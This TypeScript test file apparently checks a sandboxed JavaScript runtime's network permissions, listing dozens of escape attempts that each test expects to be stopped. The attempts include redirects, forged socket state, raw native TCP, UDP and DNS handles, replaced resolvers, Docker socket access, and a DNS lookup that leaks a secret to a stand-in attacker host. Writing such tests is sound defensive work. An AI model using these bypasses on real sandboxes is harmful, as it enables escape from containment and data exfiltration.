import { type EscapeAttempt, esm } from './escape-attempt';

// The network: undeclared hosts by every client API, redirects, custom and replaced resolvers,
// raw native handles (TCP, pipe, UDP, DNS channel) reached around the JavaScript APIs, listening,
// local sockets and descriptors. The loopback server and UDP socket count what arrives.

const net = 'import net from "node:net";';
const dgram = 'import dgram from "node:dgram";';
const networkDenied = { capability: 'network', mentions: ['add "127.0.0.1" to permissions.network_hosts'] };
/** A native method refused returns a negative error number; the attempt reports it by throwing. */
const stoppedIfNegative = (result: string) =>
  `if (typeof ${result} === 'number' && ${result} < 0) throw new Error('stopped with ' + ${result}); return ${result};`;
const stateOf = `(socket) => socket[Object.getOwnPropertySymbols(socket).find((symbol) => symbol.description === 'state symbol')]`;

export const networkAttempts: EscapeAttempt[] = [
  {
    name: 'fetch to an undeclared host',
    files: () => esm(`await fetch('http://127.0.0.1:' + c.port + '/fetch');`),
    ...networkDenied,
  },
  {
    name: 'fetch through a redirect from a declared host to an undeclared one',
    files: () =>
      esm(
        `try { await fetch('http://127.0.0.1:' + c.port + '/redirect'); } catch (error) { throw error.cause ?? error; }`,
      ),
    permissions: () => ({ network_hosts: ['127.0.0.1'] }),
    capability: 'network',
    mentions: ['add "localhost" to permissions.network_hosts'],
  },
  {
    name: 'fetch of a URL object whose hostname getter was replaced',
    files: () =>
      esm(`const url = new URL('http://127.0.0.1:' + c.port + '/getter');
Object.defineProperty(URL.prototype, 'hostname', { get() { return 'api.example.com'; }, configurable: true });
await fetch(url);`),
    ...networkDenied,
  },
  {
    name: "fetch's own dispatcher (undici's global Agent) sent straight to an undeclared origin",
    files: () =>
      esm(`await fetch('http://api.example.invalid/').catch(() => undefined);
const dispatcher = globalThis[Symbol.for('undici.globalDispatcher.1')];
if (dispatcher === undefined) throw new Error('no dispatcher to reach');
const response = await dispatcher.request({ origin: 'http://127.0.0.1:' + c.port, path: '/undici', method: 'GET' });
return await response.body.text();`),
    permissions: () => ({ network_hosts: ['api.example.invalid'] }),
    outcome: 'failed',
    capability: 'network',
  },
  {
    name: 'net.connect to an undeclared host',
    files: () => esm(`net.connect(c.port, '127.0.0.1');`, net),
    ...networkDenied,
  },
  {
    name: 'a new net.Socket connecting to an undeclared host',
    files: () => esm(`new net.Socket().connect({ port: c.port, host: '127.0.0.1' });`, net),
    ...networkDenied,
  },
  {
    name: 'http.get to an undeclared host',
    files: () => esm(`http.get('http://127.0.0.1:' + c.port + '/http');`, 'import http from "node:http";'),
    ...networkDenied,
  },
  {
    name: 'tls.connect to an undeclared host',
    files: () => esm(`tls.connect({ port: c.port, host: '127.0.0.1' });`, 'import tls from "node:tls";'),
    ...networkDenied,
  },
  {
    name: 'http2.connect to an undeclared host',
    files: () => esm(`http2.connect('http://127.0.0.1:' + c.port);`, 'import http2 from "node:http2";'),
    ...networkDenied,
  },
  {
    name: 'a UDP datagram to an undeclared host',
    files: () => esm(`dgram.createSocket('udp4').send('leak', c.udpPort, '127.0.0.1');`, dgram),
    ...networkDenied,
  },
  {
    name: 'a UDP datagram after replacing the socket method the send guard once trusted',
    files: () =>
      esm(
        `const socket = dgram.createSocket('udp4');
socket.remoteAddress = () => ({ address: '127.0.0.1', family: 'IPv4', port: c.udpPort });
socket.send('leak', c.udpPort, '127.0.0.1');`,
        dgram,
      ),
    ...networkDenied,
  },
  {
    name: 'a UDP datagram from a socket whose state was forged to "connected"',
    files: () =>
      esm(
        `const socket = dgram.createSocket('udp4');
const state = (${stateOf})(socket);
await new Promise((resolve) => socket.bind(0, resolve));
state.connectState = 2;
await new Promise((resolve, reject) => socket.send('leak', (error) => (error ? reject(error) : resolve())));
return 'sent';`,
        dgram,
      ),
    outcome: 'failed',
    capability: 'network',
  },
  {
    name: 'a raw UDP handle sending to an undeclared host',
    files: () =>
      esm(
        `const socket = dgram.createSocket('udp4');
await new Promise((resolve) => socket.bind(0, resolve));
const handle = (${stateOf})(socket).handle;
const result = handle.send({}, [Buffer.from('leak')], 1, c.udpPort, '127.0.0.1', false);
${stoppedIfNegative('result')}`,
        dgram,
      ),
    outcome: 'failed',
    capability: 'network',
  },
  {
    name: 'listening for datagrams on a chosen port',
    files: () =>
      esm(
        `const socket = dgram.createSocket('udp4');
await new Promise((resolve, reject) => { socket.on('error', reject); socket.bind(c.udpPort + 1, '127.0.0.1', resolve); });
return 'listening';`,
        dgram,
      ),
    outcome: 'failed',
    capability: 'network',
  },
  {
    name: 'a DNS lookup that would leak data in the name',
    files: () =>
      esm(`await dns.lookup('the-host-secret.attacker.invalid');`, 'import dns from "node:dns/promises";'),
    capability: 'network',
    mentions: ['add "the-host-secret.attacker.invalid" to permissions.network_hosts'],
  },
  {
    name: 'a raw DNS channel query that would leak data in the name',
    files: () =>
      esm(
        `const channel = new dns.Resolver()._handle;
const result = channel.queryA({ oncomplete() {} }, 'the-host-secret.attacker.invalid', false);
${stoppedIfNegative('result')}`,
        'import dns from "node:dns";',
      ),
    outcome: 'failed',
    capability: 'network',
  },
  {
    name: 'choosing the DNS servers',
    files: () => esm(`dns.setServers(['127.0.0.1:' + c.udpPort]);`, 'import dns from "node:dns";'),
    capability: 'network',
    mentions: ['choose DNS servers'],
  },
  {
    name: "choosing the DNS servers on a resolver's raw channel",
    files: () =>
      esm(
        `const resolver = new dns.Resolver();
const result = resolver._handle.setServers([[4, '127.0.0.1', c.udpPort]]);
if (resolver.getServers().some((server) => server.includes(String(c.udpPort)))) return 'servers changed';
throw new Error('stopped with ' + result);`,
        'import dns from "node:dns";',
      ),
    outcome: 'failed',
    capability: 'network',
  },
  {
    name: 'a custom lookup that maps a declared name to an undeclared address',
    files: () =>
      esm(
        `net.connect({ host: 'api.example.com', port: c.port, lookup: (host, options, callback) => callback(null, '127.0.0.1', 4) });`,
        net,
      ),
    permissions: () => ({ network_hosts: ['api.example.com'] }),
    capability: 'network',
    mentions: ['own lookup function'],
  },
  {
    name: 'dns.lookup replaced to map a declared name to an undeclared address',
    files: () =>
      esm(
        `const fake = (host, options, callback) => { const done = typeof options === 'function' ? options : callback; done(null, options && options.all ? [{ address: '127.0.0.1', family: 4 }] : '127.0.0.1', 4); };
dnsModule.lookup = fake;
// Reaching the loopback server would answer this request; anything else ends without an answer.
return await new Promise((resolve, reject) => {
  const socket = net.connect({ host: 'api.example.invalid', port: c.port }, () => socket.write('GET /lookup HTTP/1.1\\r\\nHost: x\\r\\n\\r\\n'));
  socket.on('data', () => resolve('reached'));
  socket.on('error', reject);
  socket.on('close', () => reject(new Error('closed without an answer')));
});`,
        `${net} import dnsModule from "node:dns";`,
      ),
    permissions: () => ({ network_hosts: ['api.example.invalid'] }),
    outcome: 'failed',
  },
  {
    name: 'a raw TCP handle from an unconnected TLS socket',
    files: () =>
      esm(
        `const handle = new tls.TLSSocket()._handle._parent;
const result = handle.connect({ oncomplete() {} }, '127.0.0.1', c.port);
${stoppedIfNegative('result')}`,
        'import tls from "node:tls";',
      ),
    outcome: 'failed',
    capability: 'network',
  },
  {
    name: 'a raw TCP handle that wraps a host descriptor, binds or listens',
    files: () =>
      esm(
        `const handle = new tls.TLSSocket()._handle._parent;
const results = [handle.open(c.hostFd), handle.bind('127.0.0.1', 0), handle.listen(16)];
if (results.every((result) => result < 0)) throw new Error('stopped with ' + results.join(', '));
return results;`,
        'import tls from "node:tls";',
      ),
    outcome: 'failed',
    capability: 'network',
  },
  {
    name: 'listening for connections',
    files: () => esm(`net.createServer().listen(0, '127.0.0.1');`, net),
    capability: 'network',
    mentions: ['listen'],
  },
  {
    name: 'listening through server._listen2',
    files: () =>
      esm(
        `const server = net.createServer();
await new Promise((resolve, reject) => { server.on('error', reject); server.on('listening', resolve); server._listen2('127.0.0.1', 0, 4, 16); });
return server.address();`,
        net,
      ),
    outcome: 'failed',
    capability: 'network',
  },
  {
    name: 'listening through net._createServerHandle',
    files: () =>
      esm(`const result = net._createServerHandle('127.0.0.1', 0, 4); ${stoppedIfNegative('result')}`, net),
    outcome: 'failed',
    capability: 'network',
  },
  {
    name: 'connecting to a local socket',
    files: () => esm(`net.connect({ path: '/var/run/docker.sock' });`, net),
    capability: 'network',
    mentions: ['local socket'],
  },
  {
    name: "a socket over the host's file descriptor",
    files: () => esm(`new net.Socket({ fd: c.hostFd });`, net),
    capability: 'network',
    mentions: ['existing descriptor'],
  },
  {
    name: "a socket over the host's file descriptor, net.Socket called without new",
    files: () => esm(`net.Socket({ fd: c.hostFd });`, net),
    capability: 'network',
    mentions: ['existing descriptor'],
  },
  {
    name: "net.connect over the host's file descriptor to a declared host",
    files: () => esm(`net.connect({ fd: c.hostFd, host: 'localhost', port: c.port });`, net),
    permissions: () => ({ network_hosts: ['localhost'] }),
    capability: 'network',
    mentions: ['existing descriptor'],
  },
  {
    name: 'a terminal stream over a descriptor',
    files: () => esm(`new tty.ReadStream(0);`, 'import tty from "node:tty";'),
    capability: 'network',
    mentions: ['terminal stream'],
  },
];
